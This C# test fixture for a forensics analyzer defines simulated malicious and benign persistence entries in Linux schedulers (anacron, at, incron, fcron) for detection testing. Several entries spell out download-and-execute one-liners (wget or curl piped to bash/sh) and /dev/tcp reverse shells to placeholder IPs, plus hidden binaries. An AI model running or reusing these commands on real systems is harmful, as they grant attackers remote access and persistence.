using static Forensics.Analyzer.Tests.Detection.PlantKind;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>anacron, at, incron, fcron.</summary>
internal static class OtherSchedulerPlants
{
    private const string Anacron = "SHELL=/bin/sh\nPATH=/usr/bin:/bin\n7 25 cron.weekly nice run-parts /etc/cron.weekly\n@monthly 45 cron.monthly nice run-parts /etc/cron.monthly\n";
    private const string AtHead = "#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nSSH_CLIENT=198.51.100.7\\ 51022\\ 22; export SSH_CLIENT\nLD_PRELOAD_NOTE=1; export LD_PRELOAD_NOTE\nPATH=/usr/bin:/bin; export PATH\n";
    private const string AtCd = "cd /root || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n";
    private const string AtName = "a0000101c89dd4";

    private static string At(string body) => AtHead + AtCd + "${SHELL:-/bin/sh} << 'marcinDELIMITER1f2e3d4c'\n" + body + "\nmarcinDELIMITER1f2e3d4c\n";

    private static PlantTree Job(PlantTree tree, string text, int mode = 0b111_000_000) => tree.File((tree.Host == PlantHost.RedHat ? "/var/spool/at/" : "/var/spool/cron/atjobs/") + AtName, text, mode);

    public static IReadOnlyList<Plant> All { get; } =
    [
        new("L-ANACRON", "hidden-temporary-program", Loud, tree => tree.File("/etc/anacrontab", Anacron + "1 5 sysupd nice /var/tmp/.sysupd\n").Program("/var/tmp/.sysupd")),
        new("L-ANACRON", "download", Loud, tree => tree.File("/etc/anacrontab", Anacron + "1 10 upd wget -qO- http://203.0.113.9/a | bash\n")) { Host = PlantHost.RedHat },
        new("L-ANACRON", "quiet-script", Quiet, tree => tree.File("/etc/anacrontab", Anacron + "1 15 inventory nice /usr/local/sbin/inventory\n").Fetcher("/usr/local/sbin/inventory")) { Entries = ["/etc/anacrontab"] },
        new("L-ANACRON", "quiet-run-parts", Quiet, tree => tree.File("/etc/anacrontab", Anacron + "1 15 \\\n inventory \\\n /usr/libexec/inventoryd\n").Linked("/usr/libexec/inventoryd")) { Host = PlantHost.RedHat, Entries = ["/etc/anacrontab"] },
        new("L-ANACRON", "slash-in-identifier", Dormant, tree => tree.File("/etc/anacrontab", Anacron + "1 15 local/inventory nice /usr/local/sbin/inventory\n").Fetcher("/usr/local/sbin/inventory")) { TwinOf = "quiet-script" },
        new("L-ANACRON", "stock", Benign, tree => tree.Owned("anacron", "/etc/anacrontab", Anacron, config: true)),
        new("L-ANACRON", "own-backup", Benign, tree => tree.File("/etc/anacrontab", Anacron + "1 30 backup /usr/local/sbin/backup.sh\n").Script("/usr/local/sbin/backup.sh", "#!/bin/sh\nrestic backup /home\n")) { Host = PlantHost.RedHat },

        new("L-AT", "hidden-program", Loud, tree => Job(tree, At("nohup /dev/shm/.x >/dev/null 2>&1 &")).Program("/dev/shm/.x")),
        new("L-AT", "reverse-shell", Loud, tree => Job(tree, AtHead + AtCd + "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n")) { Host = PlantHost.RedHat },
        new("L-AT", "quiet-script", Quiet, tree => Job(tree, At("/usr/local/bin/nightly")).Beacon("/usr/local/bin/nightly")) { Entries = ["/var/spool/cron/atjobs/" + AtName] },
        new("L-AT", "quiet-relative-program", Quiet, tree => Job(tree, AtHead + AtCd.Replace("/root", "/usr/share/nightly", StringComparison.Ordinal) + "./run --all\n").Launcher("/usr/share/nightly/run")) { Host = PlantHost.RedHat, Entries = ["/var/spool/at/" + AtName] },
        new("L-AT", "still-being-written", Dormant, tree => Job(tree, At("/usr/local/bin/nightly"), 0b110_000_000).Beacon("/usr/local/bin/nightly")) { TwinOf = "quiet-script" },
        new("L-AT", "another-owner", Dormant, tree => Job(tree, At("/usr/local/bin/nightly").Replace("uid=0", "uid=33", StringComparison.Ordinal)).Beacon("/usr/local/bin/nightly")) { TwinOf = "quiet-script" },
        new("L-AT", "reboot-tonight", Benign, tree => Job(tree, At("/sbin/reboot")).File("/var/spool/cron/atjobs/.SEQ", "00001\n")),
        new("L-AT", "database-dump", Benign, tree => Job(tree, At("pg_dump -Fc app > /srv/backup/app.dump")).Folder("/var/spool/at/spool")) { Host = PlantHost.RedHat },

        new("L-SCHED-OTHER", "incron-download", Loud, tree => tree.File("/etc/incron.d/www", "/var/www/html IN_CREATE curl http://203.0.113.9/x | sh\n")),
        new("L-SCHED-OTHER", "fcron-reverse-shell", Loud, tree => tree.File("/var/spool/fcron/systab.orig", "!mail(no)\n@ 30 /bin/bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'\n")),
        new("L-SCHED-OTHER", "quiet-incron", Quiet, tree => tree.File("/var/spool/incron/root", "/etc/passwd IN_MODIFY,IN_ATTRIB /usr/local/sbin/notify-change $@ $%\n").Launcher("/usr/local/sbin/notify-change")) { Entries = ["/var/spool/incron/root"] },
        new("L-SCHED-OTHER", "quiet-fcron", Quiet, tree => tree.File("/var/spool/fcron/root.orig", "%daily,mail(no) * 2-5 /usr/sbin/rotate-certs\n").Miner("/usr/sbin/rotate-certs")) { Entries = ["/var/spool/fcron/root.orig"] },
        new("L-SCHED-OTHER", "quiet-cron-directory", Quiet, tree => tree.Program("/root/.config/cron/perfcc")) { Entries = ["/root/.config/cron/perfcc"] },
        new("L-SCHED-OTHER", "hidden-incron-table", Dormant, tree => tree.File("/etc/incron.d/.watch", "/etc/passwd IN_MODIFY /usr/local/sbin/notify-change $@\n").Launcher("/usr/local/sbin/notify-change")) { TwinOf = "quiet-incron" },
        new("L-SCHED-OTHER", "incron-reload", Benign, tree => tree.File("/etc/incron.d/nginx", "/etc/nginx/conf.d IN_CLOSE_WRITE,IN_DELETE /usr/bin/systemctl reload nginx\n")),
        new("L-SCHED-OTHER", "fcron-backup", Benign, tree => tree.File("/var/spool/fcron/root.orig", "!bootrun(true)\n%nightly * 21-23,3-5 rsync -a /home backup.example:/home\n")),
    ];
}
